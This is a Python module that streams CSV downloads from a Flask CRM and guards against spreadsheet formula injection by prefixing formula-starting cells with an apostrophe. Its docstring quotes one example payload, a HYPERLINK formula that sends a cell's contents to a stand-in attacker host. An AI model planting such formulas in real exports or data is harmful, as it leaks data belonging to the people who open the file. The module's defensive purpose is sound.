"""CSV downloads: streamed batch by batch, safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is a formula to Excel, LibreOffice and Google
Sheets: an organization named `=HYPERLINK("http://evil.example?"&A1, "Click")` would run when
staff open the export. OWASP's answer (CSV injection): prefix such cells with an apostrophe,
quote every cell and double the quotes inside.

Streaming: the rows after the first batch are read while the response is sent, after the view
has returned and the request's teardown has unbound its workspace and closed its session. Each
later batch therefore runs in an app context of its own with the request's scope bound again,
and nothing stays bound between two chunks: a client that stops reading, or a server that
interleaves responses, leaves no context, scope or transaction behind.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Any

from flask import Response, current_app

from crm import clock
from crm.tenancy import bind_request_scope, current_scope, reset_request_scope

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Rows = list[Sequence[Any]]
# fetch(cursor) -> (rows, cursor of the next batch or None when done)
Fetch = Callable[[Any], tuple[Rows, Any]]


def safe_cell(value: object) -> str:
    """The text of a cell, with formula-starting text made plain text."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Writer:
    def __init__(self) -> None:
        self.buffer = io.StringIO()
        self.csv = csv.writer(self.buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")

    def rows(self, rows: Iterable[Sequence[Any]]) -> str:
        self.csv.writerows([safe_cell(c) for c in row] for row in rows)
        text = self.buffer.getvalue()
        self.buffer.seek(0)
        self.buffer.truncate()
        return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV document at once (small exports, tests)."""
    return "\ufeff" + _Writer().rows([header, *rows])


def csv_download(
    basename: str,
    header: Sequence[str],
    first: tuple[Rows, Any],
    fetch: Fetch,
    headers: dict[str, str] | None = None,
) -> Response:
    """A streamed attachment named `<basename>-<today>.csv`: the header, the `first` batch
    (read by the view, inside its request), then `fetch(cursor)` batch after batch, each in
    the request's workspace scope. A byte-order mark first, so Excel reads UTF-8 right."""
    app = current_app._get_current_object()
    scope = current_scope()

    def next_batch(cursor) -> tuple[Rows, Any]:
        with app.app_context():
            token = bind_request_scope(scope)
            try:
                return fetch(cursor)
            finally:
                reset_request_scope(token)

    def chunks() -> Iterator[str]:
        writer = _Writer()
        rows, cursor = first
        yield "\ufeff" + writer.rows([header, *rows])
        while cursor is not None:
            rows, cursor = next_batch(cursor)
            yield writer.rows(rows)

    filename = f"{basename}-{clock.now().date().isoformat()}.csv"
    return Response(
        chunks(),
        mimetype="text/csv",  # Flask adds "; charset=utf-8"
        headers={
            "Content-Disposition": f'attachment; filename="{filename}"',
            "Cache-Control": "no-store",
            "X-Content-Type-Options": "nosniff",
            **(headers or {}),
        },
    )
